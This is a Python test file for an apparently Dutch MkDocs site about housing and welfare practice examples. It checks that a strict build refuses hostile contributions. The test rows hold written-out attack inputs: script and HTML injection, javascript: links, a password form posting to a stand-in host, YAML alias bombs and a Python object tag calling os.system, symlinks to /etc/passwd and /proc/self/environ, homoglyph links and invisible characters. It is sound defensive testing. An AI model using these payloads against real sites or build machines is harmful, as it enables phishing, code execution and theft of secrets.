"""Hostile contributions, tried as an attacker would: each must stop `mkdocs build --strict`
with a Dutch message that names the file — no traceback, no hang, nothing published.

One row per class of attack. The rows share builds: every hostile file is added, under its
own name, to one copy of the real project, and the build must name each of them with its own
message (the loaders collect every problem before the build stops). Symbolic links get a copy
of their own, because the build refuses them before it reads anything. When a new bypass is
found, it becomes a row here first.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import ROOT, copy_project, filled_in_template
from tests.conftest import TEMPLATE as TEMPLATE_FILE

# The template as CONTRIBUTING.md shows it filled in (the template's own VUL-IN placeholders
# would stop the build before any attack is looked at).
TEMPLATE = filled_in_template()
EXAMPLE = "docs/praktijkvoorbeelden/genk-test.md"
TITLE = 'titel: "Genk: woonloket aan huis"'


def example(body: str = "", front: str = "") -> str:
    """The filled-in template with its own title, extra front matter and body text added."""
    text = TEMPLATE.replace(TITLE, 'titel: "Genk: test van een bijdrage"' + front)
    return text + body


@dataclass(frozen=True)
class Case:
    files: dict[str, str | bytes]  # path in the project -> content
    fragment: str  # part of the Dutch message
    file: str = EXAMPLE  # the file the message must name
    symlinks: tuple[tuple[str, str], ...] = ()  # (link in the project, target)


def partner(fields: str) -> str:
    """The YAML fields of a hostile partner record, after its required ones."""
    return "  naam: Testpartner\n  kring: eigen-huis\n  sector: wonen\n" + fields


GLOSSARY_TERM = (ROOT / "glossary" / "leegstand.yaml").read_text(encoding="utf-8")
THEME = Path(__import__("material").__file__).parent / "templates"
BUNDLE = next((THEME / "assets" / "javascripts").glob("bundle.*.min.js")).name


GUIDE_EXAMPLE = "docs/praktijkvoorbeelden/genk-solidair-huren.md"
GUIDE_TEXT = (ROOT / GUIDE_EXAMPLE).read_text(encoding="utf-8")


def stranger_term(term: str = "Huurcontract", extra: str = "", reading: str = "") -> str:
    """A glossary entry as a stranger's pull request would add it (valid unless changed)."""
    reading = reading or (
        "- perspectief: redactie\n"
        "  tekst: Een eigen omschrijving.\n"
        "  bron: {titel: Eigen omschrijving van de redactie, uitgever: redactie}\n"
    )
    return f"term: {term}\nsoort: begrip\nstand: 2026-11-30\n{extra}lezingen:\n{reading}"


ALIAS_BOMB = "\n".join(
    ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
)

CASES: dict[str, Case] = {
    # Raw HTML, also split over lines so that a line-by-line scan would miss it.
    "split-base-tag": Case(
        {EXAMPLE: example('\n<base\n  href="https://aanvaller.example/">\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-iframe-srcdoc": Case(
        {EXAMPLE: example('\nTekst.\n\n<iframe\nsrcdoc="<script>alert(1)</script>"></iframe>\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-meta-refresh": Case(
        {EXAMPLE: example('\n<meta\nhttp-equiv="refresh" content="0;url=https://x.example">\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-form-password": Case(
        {
            EXAMPLE: example(
                '\n<form\naction="https://x.example/steel">\n<input type="password"></form>\n'
            )
        },
        "HTML-code is niet toegelaten",
    ),
    "inline-script": Case(
        {EXAMPLE: example("\nTekst <script>alert(1)</script> meer.\n")},
        "HTML-code is niet toegelaten",
    ),
    "html-comment": Case(
        {EXAMPLE: example("\nTekst.\n\n<!-- verborgen -->\n")}, "HTML-code is niet toegelaten"
    ),
    "harmless-looking-html": Case(
        {EXAMPLE: example("\nEen <em>klein</em> woord.\n")}, "HTML-code is niet toegelaten"
    ),
    # attr_list: any attribute from body text.
    "attr-list-onclick": Case(
        {EXAMPLE: example('\nKlik hier.\n{: onclick="alert(1)" }\n')},
        "het attribuut “onclick” op <p> is niet toegelaten",
    ),
    "attr-list-style-overlay": Case(
        {
            EXAMPLE: example(
                "\nTekst.\n{: style='position:fixed;inset:0;background:url(//t.example/p)' }\n"
            )
        },
        "het attribuut “style” op <p> is niet toegelaten",
    ),
    "attr-list-on-link": Case(
        {EXAMPLE: example('\n[site](https://www.genk.be){: onmouseover="alert(1)" }\n')},
        "het attribuut “onmouseover” op <a> is niet toegelaten",
    ),
    "attr-list-class-spoof": Case(
        {EXAMPLE: example("\nDringend!\n{: .md-banner .admonition .danger }\n")},
        "het attribuut “class” op <p> is niet toegelaten",
    ),
    "attr-list-heading-id": Case(
        {EXAMPLE: example("\nTekst.\n\n## Kop {: #verwante-praktijkvoorbeelden }\n")},
        "attributen met { … }",
    ),
    "attr-list-id-in-footnote": Case(
        {EXAMPLE: example("\nTekst.[^1]\n\n[^1]: ## Kop {#inhoud}\n")}, "attributen met { … }"
    ),
    "attr-list-allowed-class": Case(
        {EXAMPLE: example("\nTekst [¶](https://x.example/){: .headerlink } meer.\n")},
        "attributen met { … }",
    ),
    # Links that run script or carry a document.
    "javascript-link": Case(
        {EXAMPLE: example("\n[klik](javascript:alert(document.cookie))\n")},
        "de link “javascript:alert(document.cookie)” op <a> is niet toegelaten",
    ),
    "javascript-reference-link": Case(
        {EXAMPLE: example("\n[klik][x]\n\n[x]: JaVaScRiPt:alert(1)\n")},
        "op <a> is niet toegelaten",
    ),
    "entity-encoded-javascript": Case(
        {EXAMPLE: example("\n[klik](&#106;avascript:alert(1))\n")}, "op <a> is niet toegelaten"
    ),
    "data-url-link": Case(
        {
            EXAMPLE: example(
                "\n[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"
            )
        },
        "op <a> is niet toegelaten",
    ),
    # Loads from outside without a click.
    "tracking-image": Case(
        {EXAMPLE: example("\n![](https://tracker.example/pixel.gif)\n")},
        "het element <img> is niet toegelaten",
    ),
    # Every spelling of the snippet include.
    "snippet-short": Case(
        {EXAMPLE: example('\n-8<- "mkdocs.yml"\n')}, "een ander bestand in te voegen"
    ),
    "snippet-uneven": Case(
        {EXAMPLE: example('\n--8<- ".github/workflows/publish.yml"\n')},
        "een ander bestand in te voegen",
    ),
    "snippet-block": Case(
        {EXAMPLE: example("\n--8<--\n.git/config\n--8<--\n")}, "een ander bestand in te voegen"
    ),
    "snippet-indented-escaped": Case(
        {EXAMPLE: example("\n   ;---8<--- 'docs/praktijkvoorbeelden/genk-test.md:2:3'\n")},
        "een ander bestand in te voegen",
    ),
    # Template code and front-matter tricks.
    "render-macros-behind-dots": Case(
        {
            EXAMPLE: "---\nrender_macros: true\n...\n"
            + TEMPLATE.removeprefix("---\n")
            + "\n{{ config }}\n"
        },
        "de gegevens bovenaan worden niet eenduidig gelezen",
    ),
    "jinja-index-in-folder": Case(
        {"docs/praktijkvoorbeelden/index.md": example("\n{{ config.repo_url }}\n")},
        "“index.md” is geen geldige naam",
        file="docs/praktijkvoorbeelden/index.md",
    ),
    "template-in-title": Case(
        {EXAMPLE: example().replace("Genk: test van een bijdrage", "{{ 7*7 }}")},
        "titel",
    ),
    # YAML that never finishes, or ends in a traceback.
    "yaml-alias-bomb": Case(
        {EXAMPLE: "---\n" + ALIAS_BOMB + "\n" + TEMPLATE.removeprefix("---\n")},
        "verwijzingen met & en * (ankers en aliassen) zijn niet toegelaten",
    ),
    "yaml-recursive-alias": Case(
        {EXAMPLE: example(front="\nthemas: &t [*t]")},
        "verwijzingen met & en *",
    ),
    "yaml-list-as-key": Case(
        {EXAMPLE: example(front="\n? [a, b]\n: waarde")}, "een veldnaam moet gewone tekst zijn"
    ),
    "yaml-number-as-key": Case(
        {EXAMPLE: example(front="\n2021: jaar")}, "een veldnaam moet gewone tekst zijn"
    ),
    "yaml-python-tag": Case(
        {EXAMPLE: example(front="\nextra: !!python/object/apply:os.system ['id']")},
        "een YAML-tag",
    ),
    "yaml-deep-nesting": Case(
        {EXAMPLE: example(front="\nextra: " + "[" * 5000 + "]" * 5000)}, "te diep genest"
    ),
    "yaml-huge": Case(
        {EXAMPLE: example(front="\nextra: [" + ", ".join(["woord"] * 60000) + "]")},
        "is te groot",
    ),
    "yaml-integer-of-5000-digits": Case(
        {EXAMPLE: example().replace("bouwstenen: [", "bouwstenen: [" + "9" * 5000 + ", ")},
        "een getal is te lang om te lezen",
    ),
    "nul-byte": Case({EXAMPLE: example("\nTekst\x00 verborgen.\n")}, "onzichtbaar stuurteken"),
    "bidi-override": Case(
        {EXAMPLE: example("\nTekst \u202egniknil\u202c.\n")}, "onzichtbaar stuurteken (U+202E)"
    ),
    "impossible-date": Case(
        {EXAMPLE: example().replace("datum: 2026-11-26", "datum: 2021-02-31")},
        "“2021-02-31” bestaat niet op de kalender",
    ),
    "multi-line-title": Case(
        {EXAMPLE: example().replace('"Genk: test van een bijdrage"', '"Genk:\\nnieuwe regel"')},
        "titel",
    ),
    # The same classes in the other contributed files.
    "glossary-alias-bomb": Case(
        {"glossary/bom.yaml": ALIAS_BOMB + "\nterm: Bom\n"},
        "verwijzingen met & en *",
        file="glossary/bom.yaml",
    ),
    "glossary-multi-line-term": Case(
        {
            "glossary/twee-regels.yaml": (ROOT / "glossary" / "leegstand.yaml")
            .read_text(encoding="utf-8")
            .replace("term: Leegstand", 'term: "Leeg\\nstand"')
        },
        "term",
        file="glossary/twee-regels.yaml",
    ),
    # Files beside the pages: MkDocs would publish them unread, or let them replace the
    # theme's own (macros/publish/publish.py).
    # A page outside the menu and outside the examples' folder: MkDocs would only warn.
    "docs-page-outside-the-nav": Case(
        {"docs/nieuws.md": "# Nieuws\n\nGoedgekeurd door de beheerders.\n"},
        "is een pagina die niet in het menu van de site staat",
        file="docs/nieuws.md",
    ),
    "docs-page-beside-a-page": Case(
        {"docs/woordenlijst/index.md": "# Woordenlijst\n"},
        "is een pagina die niet in het menu van de site staat",
        file="docs/woordenlijst/index.md",
    ),
    "docs-robots-txt": Case(
        {"docs/robots.txt": "User-agent: *\nDisallow: /\n"},
        "geen van de bestanden die de beheerders bij naam publiceren",
        file="docs/robots.txt",
    ),
    "docs-svg-with-script": Case(
        {
            "docs/kaart.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
        },
        "is geen pagina (.md)",
        file="docs/kaart.svg",
    ),
    "docs-xhtml-page": Case(
        {"docs/pagina.xhtml": '<html><meta http-equiv="refresh" content="0;url=//x.example">'},
        "is geen pagina (.md)",
        file="docs/pagina.xhtml",
    ),
    "docs-htm-page": Case(
        {"docs/bijlagen/pagina.htm": '<script src="https://x.example/a.js"></script>'},
        "is geen pagina (.md)",
        file="docs/bijlagen/pagina.htm",
    ),
    "docs-service-worker": Case(
        {"docs/sw.js": "self.addEventListener('fetch', () => {});"},
        "is geen pagina (.md)",
        file="docs/sw.js",
    ),
    "docs-shadows-theme-bundle": Case(
        {f"docs/assets/javascripts/{BUNDLE}": "document.body.innerHTML = 'inloggen';"},
        "zou het op elke pagina vervangen",
        file=f"docs/assets/javascripts/{BUNDLE}",
    ),
    "docs-shadows-declared-folder": Case(
        {"docs/javascripts/extra.js": "alert(1);"},
        "is geen pagina (.md)",
        file="docs/javascripts/extra.js",
    ),
    "overrides-shadows-theme-asset": Case(
        {"overrides/assets/stylesheets/extra-banner.css": "body::before{content:'x'}"},
        "geen van de bestanden die de beheerders bij naam publiceren",
        file="overrides/assets/stylesheets/extra-banner.css",
    ),
    "overrides-shadows-theme-partial": Case(
        {"overrides/partials/footer.html": '<form action="https://x.example/"></form>'},
        "zou het op elke pagina vervangen",
        file="overrides/partials/footer.html",
    ),
    "overrides-robots-txt": Case(
        {"overrides/robots.txt": "User-agent: *\nDisallow: /\n"},
        "geen van de bestanden die de beheerders bij naam publiceren",
        file="overrides/robots.txt",
    ),
    # Posing as the guide: its label on a text that is not its own.
    "bron-leidraad-on-a-contribution": Case(
        {EXAMPLE: example().replace("bron: bijdrage", "bron: leidraad-2021")},
        "staat alleen bij de voorbeelden uit de leidraad zelf",
    ),
    "bron-leidraad-on-a-montage": Case(
        {
            EXAMPLE: example(
                "\nHet OCMW en de dienst Wonen van Genk.\n\nBeide diensten engageren zich.\n"
            ).replace("bron: bijdrage", "bron: leidraad-2021")
        },
        "staat alleen bij de voorbeelden uit de leidraad zelf",
    ),
    "bron-leidraad-on-a-new-file-with-the-guides-words": Case(
        {
            EXAMPLE: example(
                "\nGenk is gestart met het project Solidair huren.\n\nZij zetten diverse "
                "acties op om privéverhuurders aan te moedigen.\n"
            ).replace("bron: bijdrage", "bron: leidraad-2021")
        },
        "dit bestand is er geen van (macros/core/leidraad.py noemt ze bij naam)",
    ),
    "bron-leidraad-with-a-link-added": Case(
        {
            GUIDE_EXAMPLE: GUIDE_TEXT.replace(
                "“Solidair huren”", "[Solidair huren](https://x.example/)"
            )
        },
        "staat niet woord voor woord in de leidraad (ook geen link)",
        file=GUIDE_EXAMPLE,
    ),
    # A link that shows one address and leads to another.
    "link-text-shows-another-address": Case(
        {
            EXAMPLE: example(
                "\nVraag je premie aan op [www.vlaanderen.be/premie](https://premie.example/).\n"
            )
        },
        "een link die een webadres toont, leidt naar dat adres",
    ),
    "link-to-a-look-alike-host": Case(
        {EXAMPLE: example("\nZie [de premie](https://vlaand\u0435ren.be/premie).\n")},
        "een adres staat in gewone letters (a-z)",
    ),
    # Abbreviation definitions would replace the glossary's tooltip on the whole page.
    "abbreviation-definition": Case(
        {EXAMPLE: example("\nHet SVK helpt.\n\n*[SVK]: Stichting Valse Kennis\n")},
        "definieert een afkorting",
    ),
    "abbreviation-definition-in-footnote": Case(
        {EXAMPLE: example("\nTekst.[^1]\n\n[^1]: *[OCMW]: Onze Club\n")},
        "definieert een afkorting",
    ),
    "abbreviation-removal": Case(
        {EXAMPLE: example("\nHet OCMW.\n\n- *[OCMW]: ''\n")}, "definieert een afkorting"
    ),
    "glossary-abbreviation-definition": Case(
        {
            "glossary/afkorting-erbij.yaml": GLOSSARY_TERM.replace(
                "term: Leegstand", 'term: Leegstand bis\nafkorting: "*[SVK]: Valse Kennis"'
            )
        },
        "definieert een afkorting",
        file="glossary/afkorting-erbij.yaml",
    ),
    # Invisible characters written as YAML escapes decode to exactly what the file may not hold.
    "yaml-escape-bidi-title": Case(
        {EXAMPLE: example().replace('"Genk: test van een bijdrage"', '"Genk: \\u202Etset"')},
        "onzichtbaar teken (U+202E)",
    ),
    "yaml-escape-esc": Case(
        {EXAMPLE: example().replace("gemeenten: [Genk]", 'gemeenten: ["Genk\\e[31m"]')},
        "onzichtbaar teken (U+001B)",
    ),
    "yaml-escape-c1": Case(
        {EXAMPLE: example().replace("themas: [woonkwaliteit]", 'themas: ["\\x9Bwoonkwaliteit"]')},
        "onzichtbaar teken (U+009B)",
    ),
    "yaml-escape-in-glossary": Case(
        {
            "glossary/verborgen.yaml": GLOSSARY_TERM.replace(
                "term: Leegstand", 'term: "Leeg\\u2066stand"'
            )
        },
        "onzichtbaar teken (U+2066)",
        file="glossary/verborgen.yaml",
    ),
    "zero-width-in-body": Case(
        {EXAMPLE: example("\nTekst met een\u200b verborgen teken.\n")},
        "onzichtbaar stuurteken (U+200B)",
    ),
    "title-of-zero-width-spaces": Case(
        {EXAMPLE: example().replace('"Genk: test van een bijdrage"', '"\\u200B\\u200B\\u200B"')},
        "onzichtbaar teken (U+200B)",
    ),
    # Blank but not Cc or Cf: a Hangul filler is a letter to Python, a variation selector a mark.
    "title-twin-with-a-hangul-filler": Case(
        {
            "docs/praktijkvoorbeelden/genk-test-filler.md": example().replace(
                "Genk: test van een bijdrage", "Genk: het project Solidair huren\u3164"
            )
        },
        "onzichtbaar stuurteken (U+3164)",
        file="docs/praktijkvoorbeelden/genk-test-filler.md",
    ),
    "title-twin-with-a-grapheme-joiner-escape": Case(
        {
            EXAMPLE: example().replace(
                '"Genk: test van een bijdrage"', '"Genk: het project Solidair\\u034F huren"'
            )
        },
        "onzichtbaar teken (U+034F)",
    ),
    "title-with-a-line-separator": Case(
        {EXAMPLE: example().replace('"Genk: test van een bijdrage"', '"Genk:\\u2028tweede"')},
        "onzichtbaar teken (U+2028)",
    ),
    "title-without-letters": Case(
        {EXAMPLE: example().replace('"Genk: test van een bijdrage"', '"... --- ..."')},
        "moet letters bevatten",
    ),
    "title-twin-of-the-guide": Case(
        {
            "docs/praktijkvoorbeelden/genk-test-tweeling.md": example().replace(
                "Genk: test van een bijdrage",
                "ＧＥＮＫ: STAPPENPLAN woonkwaliteit voor OCMW-cliënten",
            )
        },
        "is ook de titel van docs/praktijkvoorbeelden/genk-stappenplan-woonkwaliteit-ocmw.md",
        file="docs/praktijkvoorbeelden/genk-test-tweeling.md",
    ),
    "name-of-a-catalogue-heading": Case(
        {"docs/praktijkvoorbeelden/zelf-een-voorbeeld-toevoegen.md": example()},
        "is al een id op de catalogus",
        file="docs/praktijkvoorbeelden/zelf-een-voorbeeld-toevoegen.md",
    ),
    "name-of-a-catalogue-control": Case(
        {"docs/praktijkvoorbeelden/filter-tekst.md": example()},
        "is al een id op de catalogus",
        file="docs/praktijkvoorbeelden/filter-tekst.md",
    ),
    "number-with-decimal-point": Case(
        {EXAMPLE: example().replace("bouwstenen: [", "bouwstenen: [2.0, ")},
        "verwacht een geheel getal",
    ),
    # Small but pathological: refused by the limits before Python-Markdown sees them.
    "image-openers": Case({EXAMPLE: example("\n" + "![" * 4000 + "\n")}, "haakjes"),
    "unclosed-brackets": Case(
        {EXAMPLE: example("\n" + "Tekst [a (b] " * 30 + "\n")}, "die niet gesloten worden"
    ),
    "nested-list-markers": Case({EXAMPLE: example("\n" + "- " * 500 + "tekst\n")}, "niveaus diep"),
    "nested-quotes": Case({EXAMPLE: example("\n" + "> " * 500 + "tekst\n")}, "niveaus diep"),
    "unclosed-tag-openers": Case({EXAMPLE: example("\n" + "<a " * 5000 + "\n")}, "zonder “>” erna"),
    "thousands-of-rules": Case({EXAMPLE: example("\n" + "***\n" * 3000)}, "regels (hoogstens"),
    "footnote-flood": Case(
        {EXAMPLE: example("\n" + "Tekst[^1] " * 400 + "\n\n[^1]: Een noot.\n")},
        "voetnoten",
    ),
    "body-too-long": Case(
        {EXAMPLE: example("\n" + "Een gewone zin over wonen en welzijn. " * 600 + "\n")},
        "de tekst is te lang",
    ),
    "too-many-igs": Case(
        {EXAMPLE: example().replace("igs: [gaoz]", "igs: [" + ", ".join(["gaoz"] * 30) + "]")},
        "hoogstens 20 waarden",
    ),
    "glossary-abbreviation-that-is-a-word": Case(
        {
            "glossary/lidwoord.yaml": GLOSSARY_TERM.replace(
                "term: Leegstand", "term: Lidwoord\nafkorting: de"
            )
        },
        "“de” is geen afkorting",
        file="glossary/lidwoord.yaml",
    ),
    "glossary-name-of-another-term": Case(
        {
            "glossary/kaper.yaml": GLOSSARY_TERM.replace("term: Leegstand", "term: Kaper").replace(
                "- leegstandsregister", "- Openbaar centrum voor maatschappelijk welzijn"
            )
        },
        "is ook een naam van de term",
        file="glossary/kaper.yaml",
    ),
    "long-list-of-numbers": Case(
        {
            "glossary/lange-lijst.yaml": GLOSSARY_TERM.replace(
                "term: Leegstand", "term: Lange lijst\nzie_ook: [" + ", ".join(["1"] * 41000) + "]"
            )
        },
        "een lijst is te lang",
        file="glossary/lange-lijst.yaml",
    ),
    # Names a stranger's term may not claim (issue 19): a common word of the guide, another
    # term's name, an "abbreviation" that is an ordinary word; nor words it puts in the
    # guide's mouth.
    "glossary-claims-a-common-word": Case(
        {"glossary/premie.yaml": stranger_term("Premie")},
        "“Premie” is een gewoon woord uit de leidraad",
        file="glossary/premie.yaml",
    ),
    "glossary-claims-another-terms-name": Case(
        {"glossary/loket.yaml": stranger_term("Loket voor wonen", "synoniemen: [woonloket]\n")},
        "“woonloket” is ook een naam van de term “woonloket”",
        file="glossary/loket.yaml",
    ),
    "glossary-abbreviation-huur": Case(
        {
            "glossary/huurcontract.yaml": stranger_term(
                "Huurcontract van een woning", "afkorting: Huur\n"
            )
        },
        "“Huur” is geen afkorting",
        file="glossary/huurcontract.yaml",
    ),
    "glossary-words-put-in-the-guides-mouth": Case(
        {
            "glossary/huur.yaml": stranger_term(
                reading="- perspectief: leidraad\n"
                "  tekst: Elke gemeente moet een huurcontract gratis nakijken.\n"
                "  bron: {titel: Leidraad, uitgever: leidraad}\n"
            )
        },
        "de tekst staat niet zo in de leidraad",
        file="glossary/huur.yaml",
    ),
}


# Partners: every row is a partner record of its own in data/partners.yaml. The whole file is
# refused when one record breaks its schema, so these rows are read by the loader itself, one
# file each (a build adds nothing: the loader's problems are what the build prints).
@dataclass(frozen=True)
class Row:
    fragment: str
    partner: str  # the record's fields after its id


PARTNERS: dict[str, Row] = {
    "partner-javascript-link": Row(
        "op <a> is niet toegelaten",
        partner=partner('  wat: "Zie [hier](javascript:alert(1))."\n'),
    ),
    "partner-tracking-image": Row(
        "het element <img> is niet toegelaten",
        partner=partner('  wat: "![](https://t.example/p.gif)"\n'),
    ),
    "partner-abbreviation-definition": Row(
        "definieert een afkorting",
        partner=partner('  wat: "Het OCMW.\\n\\n*[OCMW]: Onze Club"\n'),
    ),
    "yaml-escape-in-partner": Row(
        "onzichtbaar teken (U+200B)",
        partner=partner('  kop: "Test\\u200Bpartner"\n'),
    ),
    "partner-link-shows-another-address": Row(
        "een link die een webadres toont, leidt naar dat adres",
        partner=partner('  wat: "Meer op [wonen-vlaanderen.be](https://x.example/login)."\n'),
    ),
    "partner-text-too-long": Row(
        "is te lang (hoogstens 4000 tekens)",
        partner=partner('  wat: "' + "Een partner. " * 400 + '"\n'),
    ),
}


# Symbolic links publish any file of the machine that builds the site: refused before the
# build reads anything, so these rows share a project of their own.
SYMLINKS: dict[str, Case] = {
    # Symbolic links publish any file of the machine that builds the site.
    "symlink-example": Case({}, "is een symbolische link", symlinks=((EXAMPLE, "/etc/passwd"),)),
    "symlink-data": Case(
        {},
        "is een symbolische link",
        file="data/extra.yaml",
        symlinks=(("data/extra.yaml", "../.git/config"),),
    ),
    "symlink-overrides-environ": Case(
        {},
        "is een symbolische link",
        file="overrides/omgeving.txt",
        symlinks=(("overrides/omgeving.txt", "/proc/self/environ"),),
    ),
    "symlink-macros": Case(
        {},
        "is een symbolische link",
        file="macros/extra.py",
        symlinks=(("macros/extra.py", "/etc/hostname"),),
    ),
    "symlink-github-folder": Case(
        {},
        "is een symbolische link",
        file=".github/ISSUE_TEMPLATE/meer",
        symlinks=((".github/ISSUE_TEMPLATE/meer", "/etc"),),
    ),
}


def run_build(project: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "site")],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,  # an alias bomb must not hang the build
    )


def own_path(name: str, path: str) -> str:
    """Where a row's file goes in the shared project: an example under a name of its own."""
    return f"docs/praktijkvoorbeelden/genk-test-{name}.md" if path == EXAMPLE else path


def hostile_project(destination: Path, cases: dict[str, Case]) -> Path:
    """A copy of the project with every row's files and links added."""
    project = copy_project(destination)
    for name, case in cases.items():
        for relative, content in case.files.items():
            path = project / own_path(name, relative)
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                # A title of its own, so that rows do not repeat each other's.
                path.write_text(content.replace(OWN_TITLE, f"Genk: test {name}"), "utf-8")
        for link, target in case.symlinks:
            (project / own_path(name, link)).symlink_to(target)
    return project


OWN_TITLE = "Genk: test van een bijdrage"


@pytest.fixture(scope="module")
def hostile_builds(tmp_path_factory) -> dict[str, tuple[Path, str]]:
    """One build per group of rows: (project, the build's output)."""
    builds = {}
    for group, cases in (("content", CASES), ("symlinks", SYMLINKS)):
        project = hostile_project(tmp_path_factory.mktemp(group) / "project", cases)
        result = run_build(project)
        output = result.stdout + result.stderr
        assert result.returncode != 0, f"the build accepted the {group} rows:\n{output[-2000:]}"
        assert "Traceback" not in output, output[-3000:]
        assert "De bouw stopt" in output, output[-3000:]
        builds[group] = (project, output)
    return builds


@pytest.mark.parametrize(
    "group, name", [("content", n) for n in CASES] + [("symlinks", n) for n in SYMLINKS]
)
def test_hostile_contribution_stops_the_build(hostile_builds, group, name):
    case = (CASES if group == "content" else SYMLINKS)[name]
    project, output = hostile_builds[group]
    file = own_path(name, case.file)
    mine = [line for line in output.splitlines() if f" {file}" in line]
    assert any(case.fragment in line for line in mine), "\n".join(mine) or output[-3000:]
    assert not list((project / "site").rglob("index.html")), "the build published pages"


@pytest.mark.parametrize("name", PARTNERS)
def test_hostile_partner_is_refused(tmp_path, name):
    from macros.core.sanitize import Checker, MarkdownSettings, Renderer
    from macros.core.validation import Problems
    from macros.data.model import load_partners

    (tmp_path / "data").mkdir()
    source = (ROOT / "data" / "partners.yaml").read_text(encoding="utf-8")
    record = f"- id: test-{name}\n{PARTNERS[name].partner}"
    (tmp_path / "data" / "partners.yaml").write_text(f"{source}\n{record}", encoding="utf-8")
    problems = Problems()
    settings = MarkdownSettings.from_file(ROOT / "mkdocs.yml")
    load_partners(tmp_path, Checker(Renderer(settings), problems))
    found = [str(p) for p in problems]
    assert any(
        f.startswith("data/partners.yaml") and PARTNERS[name].fragment in f for f in found
    ), found


BORROWED_VOICES = {
    # A text of the association of local governments under Welzijn.
    "glossary/vvsg-als-welzijn.yaml": (
        stranger_term(
            reading="- perspectief: welzijn\n"
            "  tekst: Het lokaal bestuur regisseert het sociaal beleid.\n"
            "  bron: {titel: VVSG over sociaal beleid, url: 'https://www.vvsg.be/x', "
            "uitgever: vvsg, geraadpleegd: 2026-11-30}\n"
        ),
        "spreekt niet voor Welzijn",
    ),
    # A news article under Wonen.
    "glossary/nieuws-als-wonen.yaml": (
        stranger_term(
            reading="- perspectief: wonen\n"
            "  tekst: De wachtlijsten worden langer.\n"
            "  bron: {titel: Nieuwsbericht, url: 'https://www.tvl.be/x', uitgever: tvl, "
            "geraadpleegd: 2026-11-30}\n"
        ),
        "spreekt niet voor Wonen",
    ),
    # The editors' paraphrase under Wonen.
    "glossary/redactie-als-wonen.yaml": (
        stranger_term(
            reading="- perspectief: wonen\n"
            "  tekst: Volgens ons bedoelt Wonen hiermee een woning.\n"
            "  bron: {titel: Eigen omschrijving van de redactie, uitgever: redactie}\n"
        ),
        "spreekt niet voor Wonen",
    ),
}


def test_a_borrowed_voice_under_a_sectors_name_stops_the_build(tmp_path):
    """Issue 17: a VVSG text, a news article and the editors' paraphrase under a sector's
    name are each refused, in Dutch, naming the file."""
    project = copy_project(tmp_path / "project")
    for relative, (content, _) in BORROWED_VOICES.items():
        (project / relative).write_text(content, encoding="utf-8")
    result = run_build(project)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "De bouw stopt" in output, output[-3000:]
    assert "Traceback" not in output, output[-3000:]
    for relative, (_, fragment) in BORROWED_VOICES.items():
        mine = [line for line in output.splitlines() if relative in line]
        assert any(fragment in line and "lezingen[1].bron.uitgever" in line for line in mine), (
            relative,
            mine or output[-3000:],
        )


def test_the_filled_in_template_builds(tmp_path):
    """The filled-in example of CONTRIBUTING.md, with `bron: bijdrage`, passes the strict
    build."""
    project = copy_project(tmp_path / "project")
    (project / EXAMPLE).write_text(example(), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stdout + result.stderr
    page = project / "site" / "praktijkvoorbeelden" / "genk-test" / "index.html"
    html = page.read_text(encoding="utf-8")
    assert "Genk: test van een bijdrage" in html
    assert "Bijdrage van 2026-11-26" in html


def test_the_unfilled_template_fails_naming_each_placeholder(tmp_path):
    """A file made from the template without changes, under the name the web editor gives
    it, stops the strict build: one Dutch message per placeholder, with its field and line."""
    project = copy_project(tmp_path / "project")
    name = "docs/praktijkvoorbeelden/vul-in-gemeente-onderwerp.md"
    (project / name).write_text(TEMPLATE_FILE.read_text(encoding="utf-8"), encoding="utf-8")
    result = run_build(project)
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in output, output[-3000:]
    placeholder = "“VUL-IN” staat er nog uit het sjabloon"
    expected = {
        "bestandsnaam": None,
        "titel": 2,
        "bouwstenen": 3,
        "gemeenten": 4,
        "igs": 5,
        "partners": 6,
        "themas": 7,
        "contact": 8,
        "datum": 10,
        "tekst": 12,
    }
    for field, line in expected.items():
        where = f"{name}:{line}: {field}: " if line else f"{name}: {field}: "
        assert f"{where}{placeholder}" in output, (field, output[-3000:])


def test_markdown_that_contributors_use_builds(tmp_path):
    """The allowlist is not so strict that ordinary writing fails."""
    body = """
Een alinea met **vet**, *cursief*, `code`, een [link](https://www.genk.be "Genk"), een
[pagina van de site](../woordenlijst.md#woonbegeleiding), <https://www.hasselt.be> en
<wonen@limburg.be>. Het OCMW en het SVK & de CAW's werken samen.[^1]

## Wat deden we?

- een opsomming
- met twee punten

1. genummerd
2. ook

> Een citaat van een bewoner.

| wie | wat |
|:----|----:|
| OCMW | 3 |

```
een stukje code
```

Term
:   Een definitie.

[^1]: Een voetnoot.
"""
    project = copy_project(tmp_path / "project")
    (project / EXAMPLE).write_text(example(body), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stdout + result.stderr


# Exports: a cell that a spreadsheet would run comes out neutralised.

FORMULAS = ['=HYPERLINK("https://x.example","klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell):
    from macros.outputs.exports import safe_cell

    assert safe_cell(cell) == "'" + cell
    assert safe_cell("Woonbegeleiding") == "Woonbegeleiding"
    assert safe_cell("") == ""


def test_csv_export_neutralises_a_hostile_term(tmp_path):
    import csv
    import io

    from macros.data.site import load_site
    from macros.outputs.exports import to_csv

    project = copy_project(tmp_path / "project")
    source = (project / "glossary" / "leegstand.yaml").read_text(encoding="utf-8")
